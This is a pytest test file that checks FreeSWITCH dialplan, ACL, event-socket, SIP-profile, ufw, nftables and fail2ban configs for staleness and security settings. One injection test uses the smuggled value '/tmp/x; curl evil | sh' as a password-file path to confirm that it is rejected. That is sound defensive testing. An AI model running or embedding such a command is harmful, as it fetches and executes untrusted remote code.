"""Rendered files: not stale, and the security-relevant parts are where they must be."""

from __future__ import annotations

import ipaddress
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from esl_agent.errors import ConfigError
from esl_agent.policy import render
from esl_agent.policy.dialing import DialPolicy

ROOT = Path(__file__).resolve().parents[2]
POLICY_PATH = ROOT / "conf" / "policy.yaml"


@pytest.fixture(scope="module")
def policy() -> DialPolicy:
    return DialPolicy.from_file(POLICY_PATH)


@pytest.fixture(scope="module")
def files(policy: DialPolicy) -> dict[str, str]:
    return render.render(policy)


def test_committed_conf_is_not_stale(policy: DialPolicy, tmp_path: Path) -> None:
    """CI fails when conf/ was not re-rendered after conf/policy.yaml changed (run `make conf`)."""
    render.write(render.render(policy), tmp_path)
    fresh = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert fresh, "nothing rendered"
    for rel in fresh:
        committed = ROOT / "conf" / rel
        assert committed.exists(), f"conf/{rel} missing: run `make conf`"
        assert committed.read_text() == (tmp_path / rel).read_text(), f"conf/{rel} is stale: run `make conf`"
    assert render.stale(policy, ROOT / "conf") == []


def test_stale_detects_an_edit(policy: DialPolicy, tmp_path: Path) -> None:
    render.write(render.render(policy), tmp_path)
    target = tmp_path / "freeswitch/autoload_configs/acl.conf.xml"
    target.write_text(target.read_text().replace('default="deny"', 'default="allow"', 1))
    (tmp_path / "firewall/ufw.sh").unlink()
    assert render.stale(policy, tmp_path) == ["freeswitch/autoload_configs/acl.conf.xml", "firewall/ufw.sh"]


def test_every_xml_is_well_formed(files: dict[str, str]) -> None:
    for rel, text in files.items():
        if rel.endswith(".xml"):
            ET.fromstring(text)


def test_public_dialplan_socket_order(files: dict[str, str]) -> None:
    ctx = ET.fromstring(files["freeswitch/dialplan/public.xml"]).find("context")
    ext = next(e for e in ctx.findall("extension") if e.get("name") == "esl-agent controller")
    actions = [(a.get("application"), a.get("data")) for a in ext.iter("action")]
    apps = [a for a, _ in actions]
    sock = apps.index("socket")
    assert actions[sock] == ("socket", "127.0.0.1:8084 async full")
    assert ("set", "send_silence_when_idle=-1") in actions[:sock]
    assert apps.index("answer") < sock
    assert len(actions) > sock + 1, "a fallback must follow the socket app"
    assert "playback" in apps[sock + 1:] and "hangup" in apps[sock + 1:]
    # Controller last: nothing falls through to a stock transfer.
    assert ctx.findall("extension")[-1] is ext
    assert not [a for a in ctx.iter("action") if a.get("application") == "transfer"]


def test_fallback_transfer_is_not_to_default(policy: DialPolicy) -> None:
    raw = dict(policy.raw)
    raw["freeswitch"] = {**raw["freeswitch"], "fallback_extension": "200"}
    text = render.public_dialplan(DialPolicy.from_mapping(raw))
    assert '<action application="transfer" data="200 XML esl_agent_fallback"/>' in text


def test_outbound_dialplan_blocks_first_no_catch_all(files: dict[str, str]) -> None:
    ctx = ET.fromstring(files["freeswitch/dialplan/esl_agent_outbound.xml"]).find("context")
    names = [e.get("name") for e in ctx.findall("extension")]
    first_allow = next(i for i, n in enumerate(names) if n.startswith("allow:"))
    assert all(n.startswith("block:") for n in names[:first_allow])
    assert all(n.startswith("allow:") for n in names[first_allow:])
    assert names[first_allow:] == ["allow:country AT", "allow:country DE", "allow:country CH", "allow:country IT"]
    for cond in ctx.iter("condition"):
        assert cond.get("expression", "").startswith("^")


def test_acl_lists_all_default_deny(files: dict[str, str], policy: DialPolicy) -> None:
    root = ET.fromstring(files["freeswitch/autoload_configs/acl.conf.xml"])
    lists = root.findall(".//list")
    assert lists and all(lst.get("default") == "deny" for lst in lists)
    trusted = next(lst for lst in lists if lst.get("name") == "trusted-providers")
    assert [n.get("cidr") for n in trusted] == ["192.0.2.0/24", "198.51.100.16/28"]


def test_event_socket_loopback_acl_no_cluecon(files: dict[str, str]) -> None:
    text = files["freeswitch/autoload_configs/event_socket.conf.xml"]
    params = {p.get("name"): p.get("value") for p in ET.fromstring(text).iter("param")}
    assert params["listen-ip"] == "127.0.0.1"
    assert params["apply-inbound-acl"] == "esl-clients"
    assert params["password"] == "$${esl_password}"
    assert "ClueCon" not in params.values()


def test_event_socket_must_be_loopback(policy: DialPolicy) -> None:
    raw = dict(policy.raw)
    raw["freeswitch"] = {**raw["freeswitch"], "event_socket_listen": "0.0.0.0:8021"}
    with pytest.raises(ConfigError, match="must be loopback"):
        render.render(DialPolicy.from_mapping(raw))


def test_vars_and_gateway_have_no_secret(files: dict[str, str]) -> None:
    vars_xml = files["freeswitch/vars.xml"]
    assert 'data="default_password=1234"' not in vars_xml
    assert 'cmd="exec-set" data="default_password=cat /etc/freeswitch/secrets/default_password' in vars_xml
    gw = files["freeswitch/sip_profiles/external/provider.xml"]
    assert '<param name="password" value="$${esl_agent_trunk_password}"/>' in gw


def test_external_profile(files: dict[str, str]) -> None:
    params = {
        p.get("name"): p.get("value")
        for p in ET.fromstring(files["freeswitch/sip_profiles/external.xml"]).iter("param")
    }
    assert params["apply-inbound-acl"] == "trusted-providers"
    assert params["log-auth-failures"] == "true"
    assert params["inbound-codec-prefs"] == "PCMA,PCMU,OPUS"
    assert params["context"] == "public"


def test_switch_conf_limits(files: dict[str, str]) -> None:
    params = {
        p.get("name"): p.get("value")
        for p in ET.fromstring(files["freeswitch/autoload_configs/switch.conf.xml"]).iter("param")
    }
    assert params["sessions-per-second"] == "10"
    assert params["max-sessions"] == "100"


def test_ufw_sip_only_from_providers(files: dict[str, str]) -> None:
    lines = files["firewall/ufw.sh"].splitlines()
    sip = [ln for ln in lines if "5060" in ln]
    assert len(sip) == 4  # 2 networks x udp/tcp
    for ln in sip:
        assert "port 5060,5061,5080,5081" in ln
        src = ln.split(" from ")[1].split()[0]
        assert ipaddress.ip_network(src) in {
            ipaddress.ip_network("192.0.2.0/24"),
            ipaddress.ip_network("198.51.100.16/28"),
        }
    assert "ufw allow proto udp to any port 16384:32768 comment 'esl-agent RTP'" in lines
    assert not any("allow" in ln and "8021" in ln for ln in lines)
    assert "ufw default deny incoming" in lines


def test_nftables_sip_only_from_providers(files: dict[str, str]) -> None:
    text = files["firewall/nftables.conf"]
    assert "policy drop;" in text
    assert "elements = { 192.0.2.0/24, 198.51.100.16/28 }" in text
    assert "ip saddr @sip_providers_v4 meta l4proto { udp, tcp } th dport { 5060, 5061, 5080, 5081 } accept" in text
    assert "udp dport 16384-32768 accept" in text
    sip_lines = [ln for ln in text.splitlines() if "5060" in ln]
    assert all("saddr @sip_providers" in ln for ln in sip_lines)


def test_fail2ban_jail(files: dict[str, str]) -> None:
    jail = files["fail2ban/jail.d/freeswitch-esl-agent.conf"]
    assert "port     = 5060,5061,5080,5081" in jail
    assert "bantime  = 86400" in jail
    assert "ignoreip = 127.0.0.1/8 ::1 192.0.2.0/24 198.51.100.16/28" in jail
    assert "[recidive]" in jail
    assert "logpath  = /var/log/freeswitch/freeswitch.log" in jail


def test_bad_provider_cidr(policy: DialPolicy) -> None:
    raw = dict(policy.raw)
    raw["trunk"] = {**raw["trunk"], "cidrs": ["192.0.2.1/24"]}
    with pytest.raises(ConfigError, match=r"trunk.cidrs\[0\]"):
        render.render(DialPolicy.from_mapping(raw))


def test_secret_path_cannot_inject_shell(policy: DialPolicy) -> None:
    raw = dict(policy.raw)
    raw["trunk"] = {**raw["trunk"], "password_file": "/tmp/x; curl evil | sh"}
    with pytest.raises(ConfigError, match="plain absolute path"):
        render.render(DialPolicy.from_mapping(raw))


def _nft_check(path: Path) -> subprocess.CompletedProcess[str]:
    nft = shutil.which("nft")
    if not nft:
        pytest.skip("nft (Debian package nftables) is not installed")
    proc = subprocess.run([nft, "-c", "-f", str(path)], capture_output=True, text=True, timeout=60, check=False)
    if proc.returncode and ("Operation not permitted" in proc.stderr or "netlink" in proc.stderr.lower()):
        pytest.skip(f"nft -c cannot run here: {proc.stderr.strip()[:120]}")
    return proc


def test_nftables_ruleset_passes_nft_check(files: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "esl-agent.nft"
    path.write_text(files["firewall/nftables.conf"])
    proc = _nft_check(path)
    assert proc.returncode == 0, proc.stderr
    broken = tmp_path / "broken.nft"
    broken.write_text(files["firewall/nftables.conf"].replace("policy drop;", "policy dorp;"))
    assert _nft_check(broken).returncode != 0
